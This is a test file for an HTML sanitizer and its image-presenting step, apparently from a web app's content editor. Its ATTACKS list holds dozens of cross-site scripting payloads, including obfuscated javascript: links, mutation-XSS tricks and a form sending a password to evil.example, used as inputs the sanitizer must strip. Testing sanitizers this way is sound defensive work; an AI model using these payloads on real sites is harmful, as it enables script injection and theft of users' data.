import type { FileId } from '@sands/contract/kernel/schema'
import type { Picture } from '@sands/contract/media/media.model'
import { describe, expect, it } from 'vitest'
import { cleanHtml } from './clean-html.ts'
import { presentHtml } from './present-html.ts'

const clean = (html: string) => cleanHtml(html).html
const LINK = 'rel="noopener nofollow"'

/** The output contains only the tags and attributes of this list, for any input. */
const SHAPE =
  /^(?:[^<>]|<\/?(?:p|h[2-4]|ul|ol|li|blockquote|strong|em|u|s|figure|figcaption|table|thead|tbody|tr|t[hd]|pre|code|a)>|<(?:hr|br) \/>|<(?:p|h[2-4]|t[hd])(?: class="align-(?:center|right|justify)")?(?: (?:colspan|rowspan)="\d+")*>|<a href="(?:https?:\/\/|\/(?!\/)|mailto:|tel:)[^"<>]*" rel="noopener nofollow"(?: target="_blank")?>|<img data-file-id="\d+" alt="[^"<>]*" \/>)*$/

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img data-file-id="7" src="javascript:alert(1)" onerror="alert(1)" srcset="https://evil.example/a.png 1x">',
  '<img data-file-id="7&quot; onerror=&quot;alert(1)" src="x">',
  '<img data-file-id="7" alt="&quot; onerror=&quot;alert(1)">',
  '<img data-file-id="7" alt=\'"><script>alert(1)</script>\'>',
  '<p onclick="alert(1)" onmouseover=alert(1) ONFOCUS=alert(1) autofocus tabindex=1>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://sands.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://user:secret@evil.example">x</a>',
  '<a href="mailto:x&quot; onclick=&quot;alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)" ping="https://evil.example">x</a>',
  '<svg onload=alert(1)></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<style>@import "https://evil.example/x.css"; p { background: url(javascript:alert(1)) }</style>',
  '<p style="background:url(https://evil.example/x); text-align:center; position:fixed">x</p>',
  '<p class="align-center evil" id="root" data-x="1">x</p>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="x">',
  '<video src=x onerror=alert(1)><source src="x"></video><audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><p>x</p>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<table><caption><img src=x onerror=alert(1)></caption><td colspan="2" onclick=alert(1)>x</td></table>',
  '<p><b><i>never closed <a href="/x"',
  '<a href="https://a.example/"><a href="javascript:alert(1)">x</a></a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<<script>alert(1)//<</script>',
  '<p>\u0000<\u0000script>alert(1)</script></p>',
]

describe('cleaned HTML', () => {
  it.each(ATTACKS)('contains nothing dangerous from %s', (attack) => {
    const html = clean(attack)
    expect(html).toMatch(SHAPE)
    expect(html).not.toMatch(/javascript:|evil\.example|onerror="|srcset/i)
    // Cleaning again changes nothing, so nothing dangerous appears when HTML is read and written again.
    expect(clean(html)).toBe(html)
  })

  it('is flattened below the deepest allowed level', () => {
    expect(clean(`${'<blockquote>'.repeat(100)}deep<img src=x onerror=alert(1)>`)).toMatch(
      /^(<blockquote>){30}deep(<\/blockquote>){30}$/,
    )
  })

  it('keeps everything that our editor produces', () => {
    const html =
      '<h2>Coffee</h2><p class="align-center">An <strong>old</strong> <em>drink</em>, <u>hot</u> or <s>cold</s></p>' +
      '<ul><li>beans</li></ul><blockquote>x</blockquote><pre><code>1 &lt; 2</code></pre><hr /><p>a<br />b</p>' +
      '<table><tbody><tr><th colspan="2">x</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>' +
      '<figure><img data-file-id="12" alt="A cup" /><figcaption>A cup</figcaption></figure>'
    expect(clean(html)).toBe(html)
  })

  it('replaces the tags of other editors by our own', () => {
    expect(clean('<h1>A</h1><b>b</b><i>i</i><del>d</del><p style="text-align: right">r</p>')).toBe(
      '<h2>A</h2><strong>b</strong><em>i</em><s>d</s><p class="align-right">r</p>',
    )
  })

  it.each([
    ['https://example.com/a?b=1', ' target="_blank"'],
    ['http://example.com', ' target="_blank"'],
    ['/courseDetail?id=1', ''],
    ['mailto:a@example.com', ''],
    ['tel:+8613800000000', ''],
  ])('keeps a link to %s', (href, target) => {
    expect(clean(`<a href="${href}" onclick="x()">go</a>`)).toBe(`<a href="${href}" ${LINK}${target}>go</a>`)
  })

  it('keeps the text of a removed link', () => {
    expect(clean('<p><a href="javascript:alert(1)">read <strong>this</strong></a></p>')).toBe(
      '<p>read <strong>this</strong></p>',
    )
  })

  it('returns the ids of its pictures once, and drops pictures from other hosts', () => {
    const { html, fileIds } = cleanHtml(
      '<img src="https://elsewhere.example/a.png"><img data-file-id="12"><img data-file-id="7"><img data-file-id="12"><img data-file-id="0x1">',
    )
    expect(fileIds).toEqual(['12', '7'])
    expect(html.match(/<img/g)).toHaveLength(3)
  })

  it('returns its plain text with separated words', () => {
    expect(
      cleanHtml('<h2>Hand  brew</h2><p>Grind &amp; pour<br>slowly</p><script>no</script><ul><li>a</li></ul>').text,
    ).toBe('Hand brew\nGrind & pour\nslowly\na')
  })
})

describe('presented HTML', () => {
  const picture: Picture = {
    url: '/files/1?a=1&b=2',
    width: 800,
    height: 600,
    placeholder: '',
    sizes: [{ url: '/files/1?w=375', width: 375, height: 281 }],
  }

  it('contains the addresses of its pictures, and leaves out deleted ones', () => {
    const { html } = cleanHtml('<p>a</p><img data-file-id="12" alt="A &quot;cup&quot;"><img data-file-id="7">')
    expect(presentHtml(html, new Map([['12' as FileId, picture]]))).toBe(
      '<p>a</p><img data-file-id="12" alt="A &quot;cup&quot;" src="/files/1?a=1&amp;b=2"' +
        ' srcset="/files/1?w=375 375w" sizes="100vw" width="800" height="600" loading="lazy" />',
    )
  })

  it('is stored unchanged when it comes back from an editor', () => {
    const { html } = cleanHtml('<p>x</p><img data-file-id="12" alt="A cup">')
    expect(clean(presentHtml(html, new Map([['12' as FileId, picture]])))).toBe(html)
  })
})
